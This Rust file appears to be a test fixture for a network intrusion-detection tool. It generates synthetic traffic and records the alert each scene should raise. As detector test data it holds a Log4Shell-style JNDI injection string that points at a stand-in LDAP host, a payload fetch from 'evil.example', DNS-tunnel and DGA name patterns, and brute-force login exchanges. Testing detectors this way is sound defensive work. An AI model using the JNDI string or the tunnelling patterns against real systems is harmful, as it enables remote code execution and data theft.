//! What messages show: names, requests, logins, and what feeds list.

use rcgen::{CertificateParams, DistinguishedName, DnType, KeyPair, SanType};

use super::super::messages::{
    A, NXDOMAIN, TXT, answer, client_hello, get, question, response, server_hello, text,
};
use super::super::stage::Stage;
use super::super::wire::{At, at};
use super::flows::look_up;

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0";
const EDGE: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Edg/130.0";

pub(crate) fn play(stage: &mut Stage, certificates: &Certificates) {
    names(stage);
    requests(stage);
    logins(stage);
    certified(stage, certificates);
    listed(stage);
}

/// What servers show. Keys are made anew each time, so the hash of one is known only here.
pub(crate) struct Certificates {
    of_another: Vec<u8>,
    of_google: Vec<u8>,
    pub(crate) listed: Vec<u8>,
}

impl Certificates {
    pub(crate) fn new() -> Self {
        Self {
            of_another: certificate("Somebody Ltd", "www.somebody.example"),
            of_google: certificate("Google LLC", "www.google.com"),
            listed: certificate("Nobody", "c2.invalid"),
        }
    }
}

fn certificate(organization: &str, name: &str) -> Vec<u8> {
    let mut params = CertificateParams::default();
    params.distinguished_name = DistinguishedName::new();
    params
        .distinguished_name
        .push(DnType::OrganizationName, organization);
    params.distinguished_name.push(DnType::CommonName, name);
    params.subject_alt_names = vec![SanType::DnsName(name.try_into().unwrap())];
    let key = KeyPair::generate().unwrap();
    params.self_signed(&key).unwrap().der().to_vec()
}

fn names(stage: &mut Stage) {
    let resolver = stage.resolver();
    let host = stage.own(40, 5, 0);
    for n in 0..16_u16 {
        let from = stage.own(40, 5, 46_000 + n);
        let name = format!("qx{n}vbnwpltr.com").replace("qx", ["zk", "wq", "xj"][usize::from(n % 3)]);
        let seconds = f64::from(n);
        stage.air.udp(seconds, from, resolver, &question(n, &name, A));
        let said = answer(n, &name, A, NXDOMAIN, None);
        stage.air.udp(seconds + 0.01, resolver, from, &said);
    }
    stage.found("DGA_NXDOMAINS", host);

    let host = stage.own(41, 5, 46_000);
    let words: String = (b'!'..=b'~')
        .map(char::from)
        .filter(|c| *c != '\\' && *c != '"')
        .collect();
    stage
        .air
        .udp(1.0, host, resolver, &question(1, "cfg.example.net", TXT));
    let said = answer(1, "cfg.example.net", TXT, 0, Some(&text(&words)));
    stage.air.udp(1.1, resolver, host, &said);
    stage.found("HIGH_ENTROPY_DNS_ANSWER", host);

    let host = stage.own(42, 5, 46_000);
    look_up(stage, 1.0, host, "rebind.example.org", stage.own(42, 99, 0).ip);
    stage.found("INVALID_DNS_RESOLUTION", host);

    let host = stage.own(43, 5, 0);
    for n in 0..70_u16 {
        let from = stage.own(43, 5, 46_000 + n);
        let load = u64::from(n + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        let name = format!("{load:016x}{:016x}.t.example.com", load.rotate_left(23) ^ 0x5555);
        let seconds = f64::from(n) * 0.5;
        stage.air.udp(seconds, from, resolver, &question(n, &name, TXT));
        let said = answer(n, &name, TXT, 0, Some(&text("ok")));
        stage.air.udp(seconds + 0.01, resolver, from, &said);
    }
    stage.found("DNS_TUNNEL", host);

    let (host, server) = (stage.own(44, 5, 46_000), stage.out(44, 1, 443));
    stage
        .air
        .talk(1.0, host, server)
        .say(&client_hello("dns.google"))
        .end();
    stage.found("DNS_OVER_HTTPS", host);
}

/// One request in a connection of its own, and its answer.
fn ask(stage: &mut Stage, seconds: f64, from: At, to: At, request: &[u8], said: &[u8]) {
    stage.air.talk(seconds, from, to).say(request).hear(said).end();
}

fn requests(stage: &mut Stage) {
    let page = response("200 OK", "text/html", 120);
    let single = [
        (
            50,
            get("shop.example", "/", "${jndi:ldap://x.example/a}"),
            page.clone(),
            "SUSPICIOUS_USER_AGENT",
        ),
        (
            51,
            get("shop.example", "/setup", FIREFOX),
            response("200 OK", "application/x-msdownload", 400),
            "EXECUTABLE_MIME_TYPE",
        ),
        (
            52,
            get("pastebin.com", "/raw/abc", FIREFOX),
            response("200 OK", "text/plain", 1_200),
            "PASTEBIN_DOWNLOAD",
        ),
        (
            53,
            b"HACK / HTTP/1.1\r\nHost: shop.example\r\n\r\n".to_vec(),
            page.clone(),
            "WEIRD_HTTP_METHOD",
        ),
        (
            54,
            get("shop.example", "/index.html", FIREFOX),
            page.clone(),
            "HTTP_TRAFFIC",
        ),
        (
            55,
            get("ads.example", "/x?lat=50.08812&lon=14.42076", FIREFOX),
            page.clone(),
            "NETWORK_GPS_LOCATION_LEAKED",
        ),
        (
            56,
            get("evil.example", "/payload.bin", FIREFOX),
            page.clone(),
            "THREAT_INTELLIGENCE_MALICIOUS_URL",
        ),
    ];
    for (scene, request, said, kind) in single {
        let (from, to) = (stage.own(scene, 5, 46_000), stage.out(scene, 1, 80));
        ask(stage, 1.0, from, to, &request, &said);
        stage.found(kind, from);
    }
    let host = stage.own(57, 5, 0);
    for n in 0..6 {
        let (from, to) = (stage.own(57, 5, 46_000 + n), stage.out(57, 1, 80));
        let request = get("google.com", "/", "x");
        ask(
            stage,
            f64::from(n),
            from,
            to,
            &request,
            &response("301 Moved", "text/html", 0),
        );
    }
    stage.found("EMPTY_CONNECTIONS", host);

    let host = stage.own(58, 5, 0);
    for (n, agent) in [(0, FIREFOX), (1, EDGE)] {
        let (from, to) = (stage.own(58, 5, 46_000 + n), stage.out(58, 1, 80));
        let request = get("shop.example", "/a", agent);
        ask(stage, f64::from(n), from, to, &request, &page);
    }
    stage.found("MULTIPLE_USER_AGENT", host);

    if stage.is_four() {
        // A card of Apple's (00:03:93 in the registry of the IEEE) says that it runs Windows.
        let host = at("10.0.59.5", 46_000);
        stage
            .air
            .who_has(0.5, [0, 3, 0x93, 1, 2, 3], "10.0.59.5", "10.0.59.1");
        let to = stage.out(59, 1, 80);
        ask(stage, 1.0, host, to, &get("shop.example", "/a", EDGE), &page);
        stage.found("INCOMPATIBLE_USER_AGENT", host);
    }
}

fn logins(stage: &mut Stage) {
    let (host, server) = (stage.own(60, 5, 46_000), stage.own(60, 9, 21));
    ftp(stage, 1.0, host, server, b"230 Logged in\r\n");
    stage.found("LOGIN", host);

    let host = stage.own(61, 5, 0);
    for n in 0..12 {
        let (from, server) = (stage.own(61, 5, 46_000 + n), stage.own(61, 9, 21));
        ftp(stage, f64::from(n), from, server, b"530 Login incorrect\r\n");
    }
    stage.found("PASSWORD_GUESSING", host);

    let host = stage.own(62, 5, 0);
    for n in 0..4 {
        let (from, server) = (stage.own(62, 5, 46_000 + n), stage.out(62, 1, 587));
        stage
            .air
            .talk(f64::from(n), from, server)
            .hear(b"220 mail.example ESMTP\r\n")
            .say(b"EHLO host\r\n")
            .hear(b"250 AUTH PLAIN\r\n")
            .say(b"AUTH PLAIN AHVzZXIAcGFzcw==\r\n")
            .hear(b"535 5.7.8 Authentication failed\r\n")
            .end();
    }
    stage.found("BAD_SMTP_LOGIN", host);
    stage.found("SMTP_LOGIN_BRUTEFORCE", host);
}

fn ftp(stage: &mut Stage, seconds: f64, from: At, server: At, outcome: &[u8]) {
    stage
        .air
        .talk(seconds, from, server)
        .hear(b"220 ready\r\n")
        .say(b"USER backup\r\n")
        .hear(b"331 Password required\r\n")
        .say(b"PASS secret\r\n")
        .hear(outcome)
        .end();
}

fn certified(stage: &mut Stage, certificates: &Certificates) {
    for (scene, name, certificate, kinds) in [
        (
            70,
            "www.somebody.example",
            &certificates.of_another,
            &["SELF_SIGNED_CERTIFICATE"][..],
        ),
        (
            71,
            "login.phish.example",
            &certificates.of_google,
            &["INCOMPATIBLE_CN"],
        ),
        (
            72,
            "www.example.org",
            &certificates.of_another,
            &["CN_URL_MISMATCH"],
        ),
        (
            73,
            "c2.invalid",
            &certificates.listed,
            &[
                "MALICIOUS_SSL_CERT",
                "MALICIOUS_JA3",
                "MALICIOUS_JA3S",
                "MALICIOUS_JA4",
            ],
        ),
    ] {
        let (from, to) = (stage.own(scene, 5, 46_000), stage.out(scene, 1, 443));
        stage
            .air
            .talk(1.0, from, to)
            .say(&client_hello(name))
            .hear(&server_hello(certificate))
            .say(&[20, 3, 3, 0, 1, 1])
            .end();
        for kind in kinds {
            stage.found(kind, from);
        }
    }
}

/// The addresses and names here stand in the feed that the test writes.
fn listed(stage: &mut Stage) {
    let (host, bad) = (stage.own(80, 5, 46_000), stage.out(80, 1, 443));
    stage
        .air
        .talk(1.0, host, bad)
        .say(&client_hello("x.example"))
        .end();
    stage.found("THREAT_INTELLIGENCE_TO_BLACKLISTED_IP", host);

    let (bad, server) = (stage.out(80, 1, 46_000), stage.own(81, 9, 443));
    stage
        .air
        .talk(1.0, bad, server)
        .say(&client_hello("y.example"))
        .end();
    stage.found("THREAT_INTELLIGENCE_FROM_BLACKLISTED_IP", bad);

    let host = stage.own(82, 5, 46_000);
    look_up(stage, 1.0, host, "harmless.example", stage.out(80, 1, 0).ip);
    stage.found("THREAT_INTELLIGENCE_BLACKLISTED_DNS_ANSWER", host);

    let host = stage.own(83, 5, 46_000);
    look_up(stage, 1.0, host, "www.listed.example", stage.out(83, 1, 0).ip);
    stage.found("THREAT_INTELLIGENCE_BLACKLISTED_DOMAIN", host);
    stage.found("THREAT_INTELLIGENCE_ANSWER_OF_BLACKLISTED_QUERY", host);

    let (host, exit) = (stage.own(84, 5, 46_000), stage.out(84, 1, 9_001));
    stage
        .air
        .talk(1.0, host, exit)
        .say(&client_hello("z.example"))
        .end();
    stage.found("TOR_EXIT_NODE", host);

    // Whoever announces these is in the program's tables.
    let server = match stage.is_four() {
        true => at("8.8.8.8", 443),
        false => at("2001:4860:4860::8888", 443),
    };
    let host = stage.own(85, 5, 46_000);
    stage
        .air
        .talk(1.0, host, server)
        .say(&client_hello("w.example"))
        .end();
    stage.found("THREAT_INTELLIGENCE_BLACKLISTED_ASN", host);
}
